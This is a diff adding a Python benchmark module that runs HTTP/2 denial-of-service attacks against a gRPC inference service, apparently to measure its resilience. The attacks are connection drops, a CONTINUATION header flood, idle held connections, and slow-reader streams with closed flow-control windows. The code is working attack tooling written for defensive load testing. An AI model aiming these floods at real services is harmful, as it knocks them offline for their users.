@@ -1,0 +1,162 @@
+"""Peers that mean harm, as a process of its own: `python -m bench.attacker KIND HOST:PORT PER_S SECONDS MODEL`.
+
+It prints how often it did what it does as one line of JSON. It takes the lowest priority of the machine: what is to be
+seen is what it does to the service, not that two processes share a processor.
+"""
+
+import asyncio
+import json
+import os
+import struct
+import sys
+import time
+from collections.abc import Awaitable, Callable
+from typing import Final
+
+import grpc.aio
+import hpack
+from tritonclient.grpc import service_pb2, service_pb2_grpc
+
+from bench.payload import infer_request
+from bench.stream import Stream
+from bench.wire import DATA, END_HEADERS, HEADERS, INITIAL_WINDOW, PREFACE, SETTINGS
+
+CONTINUATION: Final = 9
+# Eight frames as large as every peer takes: many times what `limits.metadata_bytes` lets through.
+FLOOD_BYTES: Final = 128 * 1024
+FRAME_BYTES: Final = 16384
+# Requests on each stream whose answers nobody reads.
+UNREAD: Final = 128
+STEP_S: Final = 0.02
+GIVE_UP_S: Final = 0.5
+
+# What an attack does once, in front of an address.
+Attack = Callable[[str], Awaitable[None]]
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """One HTTP/2 frame."""
+    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload
+
+
+async def connected(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    """A connection on which nothing was said."""
+    host, _, port = address.rpartition(":")
+    return await asyncio.open_connection(host, int(port))
+
+
+class Drops:
+    """Connections opened and dropped, every other one after the HTTP/2 preface."""
+
+    def __init__(self) -> None:
+        self._count = 0
+
+    async def __call__(self, address: str) -> None:
+        """Open one, and drop it."""
+        _, writer = await connected(address)
+        self._count += 1
+        if self._count % 2:
+            writer.write(PREFACE + frame(SETTINGS, 0, 0))
+        writer.transport.abort()
+
+
+class Headers:
+    """A header block far beyond the limit, over eight frames, on a connection of its own."""
+
+    def __init__(self) -> None:
+        field = b"\x00\x07x-flood\x7f\x81\x01" + b"x" * 256  # a literal of 256 bytes, RFC 7541 6.2.2 and 5.1
+        block = (field * (FLOOD_BYTES // len(field) + 1))[:FLOOD_BYTES]
+        starts = range(0, FLOOD_BYTES, FRAME_BYTES)
+        self._frames = PREFACE + frame(SETTINGS, 0, 0)
+        for start in starts:
+            last = END_HEADERS if start == starts[-1] else 0
+            kind = CONTINUATION if start else HEADERS
+            self._frames += frame(kind, last, 1, block[start : start + FRAME_BYTES])
+
+    async def __call__(self, address: str) -> None:
+        """Send it, and stay until the server closes, GIVE_UP_S at most."""
+        reader, writer = await connected(address)
+        try:
+            async with asyncio.timeout(GIVE_UP_S):
+                writer.write(self._frames)
+                while await reader.read(65536):
+                    pass
+        finally:
+            writer.transport.abort()
+
+
+class Idle:
+    """Connections that agree on their settings, and are held without a word."""
+
+    def __init__(self) -> None:
+        self._held: list[asyncio.StreamWriter] = []
+
+    async def __call__(self, address: str) -> None:
+        """Hold one more."""
+        _, writer = await connected(address)
+        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
+        self._held.append(writer)
+
+
+class SlowReaders:
+    """Streams full of requests whose answers are never read: the window for them is closed from the start.
+
+    Args:
+        body: a serialized ModelInferRequest.
+    """
+
+    def __init__(self, body: bytes) -> None:
+        self._held: list[asyncio.StreamWriter] = []
+        self._message = b"\0" + struct.pack("!I", len(body)) + body
+
+    async def __call__(self, address: str) -> None:
+        """Hold one more."""
+        _, writer = await connected(address)
+        path = "/inference.GRPCInferenceService/ModelStreamInfer"
+        about = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
+        about += [("content-type", "application/grpc"), ("te", "trailers"), ("x-tenant-id", "attacker")]
+        closed = struct.pack(">HI", INITIAL_WINDOW, 0)
+        writer.write(PREFACE + frame(SETTINGS, 0, 0, closed) + frame(SETTINGS, 1, 0))
+        writer.write(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(about)))
+        for _ in range(min(UNREAD, 60_000 // len(self._message))):  # what the first window of a stream holds
+            writer.write(frame(DATA, 0, 1, self._message))
+        self._held.append(writer)
+
+
+async def attack(once: Attack, address: str, per_s: float, seconds: float) -> int:
+    """Do it `per_s` times a second for `seconds`; how often it was done, those included that the server cut short."""
+    began, done = time.monotonic(), 0
+    while (passed := time.monotonic() - began) < seconds:
+        due = int(passed * per_s) - done
+        done += due
+        await asyncio.gather(*(once(address) for _ in range(due)), return_exceptions=True)
+        await asyncio.sleep(STEP_S)
+    return done
+
+
+async def prepared(kind: str, address: str, model: str) -> Attack:
+    """An attack by its name: drops, headers, idle or slow-readers."""
+    if kind == "slow-readers":
+        return SlowReaders(await body_of(address, model))
+    kinds: dict[str, Callable[[], Attack]] = {"drops": Drops, "headers": Headers, "idle": Idle}
+    return kinds[kind]()
+
+
+async def body_of(address: str, model: str) -> bytes:
+    """A request to the model, one row of random values."""
+    async with grpc.aio.insecure_channel(address) as channel:
+        stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
+        metadata = await stub.ModelMetadata(service_pb2.ModelMetadataRequest(name=model), timeout=60)
+    stream = Stream.model_validate({"model": model, "class": "interactive", "tenant": "victim", "outstanding": 1})
+    return infer_request(stream, metadata, seed=1)
+
+
+async def main(kind: str, address: str, per_s: str, seconds: str, model: str) -> None:
+    """Attack, and tell how often."""
+    os.nice(19)
+    once = await prepared(kind, address, model)
+    sys.stdout.write(json.dumps({"done": await attack(once, address, float(per_s), float(seconds))}) + "\n")
+
+
+if __name__ == "__main__":
+    asyncio.run(main(*sys.argv[1:6]))
